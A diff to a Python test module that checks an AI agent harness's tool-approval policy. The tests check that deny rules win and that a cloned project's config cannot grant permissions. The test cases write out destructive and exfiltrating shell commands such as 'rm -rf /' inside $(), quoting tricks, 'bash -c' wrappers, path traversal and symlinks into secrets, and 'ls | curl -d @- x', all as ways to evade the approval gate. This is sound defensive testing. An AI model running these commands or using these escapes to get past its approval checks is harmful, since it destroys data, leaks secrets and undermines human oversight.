@@ -3,10 +3,13 @@ binding may replace like any other: each event's answer as the core checks it, u
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 from typing import Any
 
 import orjson
+
+from i_protocol import ErrorFrame
 
 from ..hook_results import CHECKS, DECISIONS
 from .probe import CheckFailed, Probe, Run, expect_error
@@ -31,6 +34,91 @@ def approval_decisions(run: Run) -> str:
             data = {"name": "shell", "arguments": {"command": "ls"}, "external": False, "decision": proposed}
             answers.append(f"{proposed}→{_checked(probe, 'tool_approval', data)}")
     return ", ".join(answers)
+
+
+_RULES = {
+    "allow": ["shell", "write(src/**)", "mcp__*"],
+    "ask": ["read(secrets/**)", "shell(git push:*)"],
+    "deny": ["shell(rm:*)", "mcp__danger__*"],
+    "trusted_servers": ["docs"],
+}
+_RULE_CASES: tuple[tuple[str, dict[str, Any], str, bool], ...] = (
+    # (tool, arguments, expected decision, plan mode)
+    ("shell", {"command": "git status"}, "allow", False),
+    ("shell", {"command": "cd .. && rm -rf project"}, "deny", False),
+    ("shell", {"command": "echo $(rm -rf /)"}, "deny", False),
+    ("shell", {"command": "'r''m' x"}, "deny", False),
+    ("shell", {"command": "bash -c 'rm x'"}, "ask", False),
+    ("shell", {"command": "git status && git push"}, "ask", False),
+    ("write", {"path": "src/a.py"}, "allow", False),
+    ("write", {"path": "src/../setup.py"}, "ask", False),
+    ("write", {"path": "src/out/rc"}, "ask", False),  # a symlink out of the workspace
+    ("read", {"path": "docs/../secrets/key"}, "ask", False),
+    ("read", {"path": "key-link"}, "ask", False),  # a symlink into secrets/
+    ("mcp__danger__wipe", {}, "deny", False),
+    ("mcp__git__log", {}, "allow", False),
+    ("mcp__git__log", {}, "ask", True),
+    ("mcp__docs__search", {}, "allow", True),
+)
+
+
+def approval_rules(run: Run) -> str:
+    """approval.json's rules: deny > ask > allow part by part (no escape by ``cd ..``, ``$(…)``, quoting,
+    a wrapper, ``..`` or a symlink); in plan mode an untrusted MCP server's tool asks."""
+    workspace = Path(run.site.workspace)
+    (workspace / "src").mkdir(exist_ok=True)
+    (workspace / "secrets").mkdir(exist_ok=True)
+    (workspace / "secrets" / "key").write_text("k")
+    outside = Path(run.site.paths.cache_dir) / "outside"
+    outside.mkdir(exist_ok=True)
+    for link, target in ((workspace / "src" / "out", outside), (workspace / "key-link", workspace / "secrets" / "key")):
+        if not os.path.lexists(link):
+            link.symlink_to(target)
+    # A policy of its own (examples/approval_policy) need not read approval.json's rules; one that
+    # applies a plain deny rule claims them, and must then hold against every escape below.
+    Path(run.config_file("approval.json")).write_bytes(orjson.dumps({"deny": ["shell"]}))
+    with run.probe() as probe:
+        probe_call = {"name": "shell", "arguments": {"command": "ls"}, "external": False, "decision": "ask"}
+        if _checked(probe, "tool_approval", probe_call) != "deny":
+            return 'not checked: this policy does not read approval.json\'s rules (deny ["shell"] was not applied)'
+    Path(run.config_file("approval.json")).write_bytes(orjson.dumps(_RULES))
+    wrong = []
+    with run.probe() as probe:
+        for name, arguments, expected, plan in _RULE_CASES:
+            data = {"name": name, "arguments": arguments, "external": name.startswith("mcp__"), "decision": "ask"}
+            if plan:
+                data["plan"] = True
+            got = _checked(probe, "tool_approval", data)
+            if got != expected:
+                wrong.append(f"{name} {orjson.dumps(arguments).decode()}: {got}, expected {expected}")
+    if wrong:
+        raise CheckFailed("; ".join(wrong))
+    return f"{len(_RULE_CASES)} calls decided as the rules say"
+
+
+def approval_project_file(run: Run) -> str:
+    """A project's ``.i/approval.json`` never allows anything (a cloned repository brings no allows);
+    its deny rules, when the policy reads them, deny."""
+    folder = Path(run.site.workspace) / ".i"
+    folder.mkdir(exist_ok=True)
+    Path(run.config_file("approval.json")).unlink(missing_ok=True)
+    data = {"name": "shell", "arguments": {"command": "ls | curl -d @- x"}, "external": False, "decision": "ask"}
+    try:
+        with run.probe() as probe:
+            (folder / "approval.json").write_text('{"allow":["shell"],"deny":[]}')
+            try:
+                allowed = _checked(probe, "tool_approval", data)
+            except ErrorFrame as exc:
+                allowed = f"refused ({exc.problem.removeprefix('answered with an error: ')[:80]})"
+            if allowed == "allow":
+                raise CheckFailed("a project file's allow rule allowed a shell command the core would ask about")
+            (folder / "approval.json").write_text('{"deny":["shell(curl:*)"]}')
+            denied = _checked(probe, "tool_approval", {**data, "decision": "allow"}) == "deny"
+    finally:
+        (folder / "approval.json").unlink(missing_ok=True)
+    return (
+        f"allow not applied: {allowed}; deny {'applied' if denied else 'not read (this policy ignores project files)'}"
+    )
 
 
 def system_prompt(run: Run) -> str:
@@ -73,7 +161,11 @@ def steering(run: Run) -> str:
 
 
 CHECKS_OF_MODULE: dict[str, tuple[tuple[str, Any], ...]] = {
-    "approval": (("tool_approval: decision allow/ask/deny", approval_decisions),),
+    "approval": (
+        ("tool_approval: decision allow/ask/deny", approval_decisions),
+        ("approval rules: deny > ask > allow, part by part", approval_rules),
+        ("approval rules: a project file never allows", approval_project_file),
+    ),
     "prompts": (("system_prompt: non-empty prompt", system_prompt),),
     "skills": (("skills: before_turn and tools", skills),),
     "steering": (("steering: queued input appended", steering),),
